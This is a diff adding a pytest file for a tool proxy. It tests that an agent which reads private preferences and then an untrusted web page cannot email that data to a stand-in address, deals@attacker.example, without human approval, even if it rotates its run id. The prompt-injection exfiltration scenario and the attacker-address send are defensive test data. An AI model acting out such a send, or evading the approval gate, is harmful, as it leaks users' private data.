@@ -1,0 +1,218 @@
+"""Flow labels across calls (issue 31 part 1): the injection story through every front, on real OPA + Redis.
+
+Read a person's preferences (``private``), fetch a web page (``untrusted``), then send an email (an
+``external`` sink): the send is not executed (the demo data asks for an approval; ``deny`` in OPA data
+refuses it). A fresh ``X-Run-Id`` does not help; another subject's clean context sends; once the window
+expired the same send runs.
+"""
+
+from __future__ import annotations
+
+import json
+import uuid
+
+import httpx2
+import pytest
+from mcp import Client
+from mcp.client.streamable_http import streamable_http_client
+
+from tests.support.redis_traffic import RedisTraffic
+from tests.support.stack import mcp_envelope, running_stack
+from tests.support.tokens import jwt_overrides
+from tests.support.waits import wait_until
+from tests.test_openai_front import assistant, chat_call, tool_messages
+
+PREFS = ("get_user_preferences", {"user_ref": "usr_alice"})
+PAGE = ("fetch_page", {"url": "https://shop.example/offers"})
+SEND = ("send_email", {"to": "deals@attacker.example", "subject": "prefs", "body": "en, email"})
+FLOW_SETTING = "toolproxy/settings/flow"
+
+
+@pytest.fixture
+async def stack(proxy_deps, issuers):
+    agent, _ = issuers
+    async with running_stack({**proxy_deps, **jwt_overrides(*issuers), "reconcile.enabled": False,
+                              "decisions.enabled": True, "decisions.timeout_ms": 5000}) as s:
+        s.headers["Authorization"] = f"Bearer {agent.token('alice')}"
+        yield s
+
+
+@pytest.fixture
+def approver(issuers):
+    _, admin = issuers
+    return admin.token("bob", audience="toolproxy-admin", roles=["approver", "operator", "cross-tenant"],
+                       tenant=None, scope="")
+
+
+@pytest.fixture
+def deny_mode(opa_server):
+    opa_server.put_data(FLOW_SETTING, {"private_to_external": "deny"})
+    try:
+        yield
+    finally:
+        opa_server.put_data(FLOW_SETTING, {"private_to_external": "approval"})
+
+
+def run(name: str) -> dict[str, str]:
+    return {"X-Run-Id": f"{name}-{uuid.uuid4().hex[:8]}"}
+
+
+def sent(stack) -> list[str]:
+    return [m["to"] for m in stack.backend.outbox if "message_id" in m]
+
+
+async def read_both(stack, headers) -> None:
+    for tool, arguments in (PREFS, PAGE):
+        status, env = await stack.call(tool, arguments, headers=headers)
+        assert status == 200 and env["outcome"] == "succeeded", env
+
+
+async def test_json_front_private_then_untrusted_then_external_needs_a_person(stack, approver, issuers):
+    status, env = await stack.call(*SEND, headers=run("clean"))  # a clean context: the send runs
+    assert status == 200 and env["outcome"] == "succeeded", env
+    assert len(sent(stack)) == 1
+
+    await read_both(stack, run("story"))
+    status, env = await stack.call(*SEND, headers=run("story"))
+    assert status == 403 and env["error"]["code"] == "approval_required", env
+    assert env["side_effect"] == {"attempted": False, "committed": False}
+    assert "flow_private_to_external" not in json.dumps(env)  # reasons never reach the model
+    approval_id = env["error"]["details"]["approval_id"]
+
+    # The model picks a fresh run id: the principal scope still holds both labels.
+    status, again = await stack.call(*SEND, headers=run("rotated"))
+    assert status == 403 and again["error"]["code"] == "approval_required", again
+    status, bare = await stack.call(*SEND)  # no run id at all
+    assert status == 403 and bare["error"]["code"] == "approval_required", bare
+    assert len(sent(stack)) == 1
+
+    # The approver sees why.
+    status, listing = await stack.admin("GET", "/v1/approvals", approver)
+    assert status == 200
+    [pending] = [a for a in listing["approvals"] if a["id"] == approval_id]
+    assert pending["reasons"] == ["flow_private_to_external"] and pending["tool"] == "send_email"
+    status, body = await stack.admin("POST", f"/v1/approvals/{approval_id}/approve", approver)
+    assert status == 200, body
+    status, env = await stack.call(*SEND, headers={**run("story"), "X-Approval-Id": approval_id})
+    assert status == 200 and env["outcome"] == "succeeded", env  # a person looked: it runs, once
+    assert len(sent(stack)) == 2
+
+    # Another subject of the tenant has a context of its own.
+    dave = issuers[0].token("dave")
+    status, env = await stack.call(*SEND, headers={**run("dave"), "Authorization": f"Bearer {dave}"})
+    assert status == 200 and env["outcome"] == "succeeded", env
+    assert len(sent(stack)) == 3
+
+
+async def test_decision_records_carry_input_flow(stack, proxy_deps):
+    from proxy.authoring.policy_replay import read_stream
+    headers = run("records")
+    await read_both(stack, headers)
+    status, env = await stack.call(*SEND, headers=headers)
+    assert status == 403
+    records, _ = await read_stream(proxy_deps["redis.url"], "toolproxy:decisions:{stream}")
+    by_tool = {r["tool"]: r for r in records}
+    assert "flow" not in by_tool["get_user_preferences"]["input"]  # an internal sink: not read, nothing to see
+    fetch, send = by_tool["fetch_page"], by_tool["send_email"]
+    assert fetch["input"]["flow"]["labels"] == ["private"] and fetch["decision"]["result"] == "allow"
+    flow = send["input"]["flow"]
+    assert flow["labels"] == ["private", "untrusted"] and flow["window_s"] == 86400
+    assert [(s["label"], s["tool"]) for s in flow["principal"]["seen"]] == \
+        [("private", "get_user_preferences"), ("untrusted", "fetch_page")]
+    assert flow["run"]["labels"] == ["private", "untrusted"]
+    assert send["input"]["tool"]["flow"] == {"produces": [], "sink": "external"}
+    assert send["decision"] == {"result": "require_approval", "allow": False, "require_approval": True,
+                                "reasons": ["flow_private_to_external"], "risk": "external"}
+
+
+async def test_deny_in_opa_data_refuses_and_the_denial_list_names_the_reason(stack, approver, deny_mode):
+    await read_both(stack, run("deny"))
+    status, env = await stack.call(*SEND, headers=run("deny-2"))
+    assert status == 403 and env["error"]["code"] == "forbidden", env
+    assert not sent(stack)
+    status, denials = await stack.admin("GET", "/v1/denials", approver)
+    assert status == 200
+    assert "flow_private_to_external" in json.dumps(denials), denials
+
+
+async def test_batch_front(stack):
+    status, body = await stack.batch([
+        {"call_id": "prefs", "tool": PREFS[0], "arguments": PREFS[1]},
+        {"call_id": "page", "tool": PAGE[0], "arguments": PAGE[1], "depends_on": ["prefs"]},
+        {"call_id": "send", "tool": SEND[0], "arguments": SEND[1], "depends_on": ["page"]},
+    ], headers=run("batch"))
+    assert status == 200, body
+    results = {r["call_id"]: r for r in body["results"]}
+    assert results["prefs"]["outcome"] == results["page"]["outcome"] == "succeeded", body
+    assert results["send"]["error"]["code"] == "approval_required", body
+    status, body = await stack.batch([{"call_id": "send", "tool": SEND[0], "arguments": SEND[1]}],
+                                     headers=run("batch-rotated"))
+    assert body["results"][0]["error"]["code"] == "approval_required", body
+    assert not sent(stack)
+
+
+async def test_openai_front(stack):
+    headers = run("openai")
+    for n, (tool, arguments) in enumerate((PREFS, PAGE)):
+        status, response = await stack.post("/v1/openai/tool-calls", assistant(chat_call(f"c{n}", tool, arguments)),
+                                            headers=headers)
+        assert status == 200 and json.loads(tool_messages(response)[0]["content"])["outcome"] == "succeeded"
+    for headers in (headers, run("openai-rotated")):
+        status, response = await stack.post("/v1/openai/tool-calls", assistant(chat_call("send", *SEND)),
+                                            headers=headers)
+        envelope = json.loads(tool_messages(response)[0]["content"])
+        assert envelope["error"]["code"] == "approval_required", envelope
+    assert not sent(stack)
+
+
+async def test_mcp_front(stack):
+    async def client(run_headers):
+        http = httpx2.AsyncClient(headers={"Authorization": stack.headers["Authorization"], **run_headers},
+                                  timeout=httpx2.Timeout(30.0))
+        return Client(streamable_http_client(stack.proxy_url + "/mcp", http_client=http), mode="auto")
+
+    async with await client(run("mcp")) as mcp:
+        assert (await mcp.call_tool(*PREFS)).is_error is False
+        assert (await mcp.call_tool(*PAGE)).is_error is False
+        refused = await mcp.call_tool(*SEND)
+    assert mcp_envelope(refused)["error"]["code"] == "approval_required"
+    async with await client(run("mcp-rotated")) as mcp:
+        refused = await mcp.call_tool(*SEND)
+    assert mcp_envelope(refused)["error"]["code"] == "approval_required"
+    assert not sent(stack)
+
+
+async def test_after_the_window_the_send_runs(proxy_deps):
+    async with running_stack({**proxy_deps, "flow.window_s": 1}) as stack:
+        headers = run("window")
+        await read_both(stack, headers)
+        status, env = await stack.call(*SEND, headers=headers)
+        assert env["error"]["code"] == "approval_required", env
+        assert len(await stack.redis.keys("toolproxy:flow*")) == 2  # the principal scope and the run's
+        # Redis expires both scopes one window after the last label (bounded wait, nothing timed).
+        await wait_until(lambda: _none_left(stack.redis), timeout=30, what="the flow window to expire")
+        status, env = await stack.call(*SEND, headers=headers)
+        assert status == 200 and env["outcome"] == "succeeded", env
+        assert len(sent(stack)) == 1
+
+
+async def _none_left(redis) -> bool:
+    return not await redis.keys("toolproxy:flow*")
+
+
+async def test_an_unlabelled_call_costs_no_redis_command_and_a_labelled_one_exactly_one(proxy_deps):
+    async with running_stack(proxy_deps) as stack:
+        await stack.call("get_order", {"order_id": "ord_1001"})  # scripts loaded, connections open
+        async with RedisTraffic(proxy_deps["redis.url"]) as traffic:
+            status, _ = await stack.call("get_order", {"order_id": "ord_1001"})
+            assert status == 200
+            plain = await traffic.since_start()
+            status, _ = await stack.call(*PREFS)
+            assert status == 200
+            labelled = await traffic.since_start()
+            status, _ = await stack.call(*SEND, headers=run("cost"))  # only private seen: it runs
+            assert status == 200
+            sink = await traffic.since_start()
+    assert not [c for c in plain.commands if c.startswith("flow.")], plain
+    assert [c for c in labelled.commands if c.startswith("flow.")] == ["flow.record"], labelled
+    assert [c for c in sink.commands if c.startswith("flow.")] == ["flow.read"], sink
